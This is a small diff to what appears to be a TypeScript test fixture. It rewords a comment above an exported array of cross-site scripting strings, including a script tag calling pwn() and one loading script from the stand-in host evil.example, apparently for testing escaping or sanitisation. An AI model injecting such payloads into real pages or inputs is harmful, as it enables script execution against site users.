@@ -1,4 +1,4 @@
-/** Each would call `pwn()` or fetch from `evil.example` if a page took it for more than text. */
+/** Each calls `pwn()` or fetches from `evil.example` if a page treats it as more than text. */
 export const PAYLOADS: readonly string[] = [
   '<script>pwn()</script>',
   '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
